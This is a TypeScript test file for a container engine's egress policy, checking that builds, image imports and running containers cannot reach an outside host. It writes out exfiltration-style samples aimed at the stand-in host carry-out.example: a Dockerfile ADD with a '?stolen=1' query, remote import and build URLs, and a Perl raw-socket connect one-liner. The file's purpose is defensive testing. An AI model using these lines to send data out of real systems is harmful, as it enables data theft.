/** With no way out, the engine is none either: what it fetches for a learner is judged by the same rule. */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { skip, stageOfThisFile } from "./stage.ts";

const stage = stageOfThisFile();
const set = (egress: string) =>
  stage.engine.call("PUT", "/drydock/v1/policies/public", { egress, packageHosts: ["deb.example"] });

for (const egress of ["none", "registries"]) {
  describe(`egress=${egress}`, { skip }, () => {
    before(async () => assert.equal((await set(egress)).status, 200));
    after(() => set("all"));
    const refused = /Fetching from carry-out\.example is not allowed here \(rule \\?"egress\\?" of the public policy\)/;

    test("ADD by URL carries nothing out", async () => {
      const { text } = await stage.build("added", "FROM debian\nADD http://carry-out.example/?stolen=1 /x\n");
      assert.match(text, refused);
      await stage.unharmed();
    });

    test("docker import and a context by URL carry nothing out", async () => {
      const imported = await stage.api("POST", "/images/create?fromSrc=http://carry-out.example/x.tar");
      assert.match(imported.text, refused);
      const built = await stage.api("POST", "/build?remote=http://carry-out.example/Dockerfile");
      assert.match(built.text, refused);
      await stage.unharmed();
    });

    test("a container and a build step reach nothing, and ask for no name", async () => {
      const script = "getent hosts carry-out.example; echo $?";
      const { stdout } = await stage.inside(script);
      assert.equal(stdout, "2\n");
      const connect =
        'use Socket;socket(S,PF_INET,SOCK_STREAM,0);alarm 5;connect(S,sockaddr_in(80,inet_aton("198.51.100.7")))or print "$!\\n"';
      assert.match((await stage.inside(`perl -e '${connect}'`)).stdout, /Connection refused|unreachable|No route/);
      const { text } = await stage.build("reach", `FROM debian\nRUN : ${egress}; perl -e '${connect}'\n`);
      assert.match(text, /Connection refused|unreachable|No route/);
      await stage.unharmed();
    });
  });
}
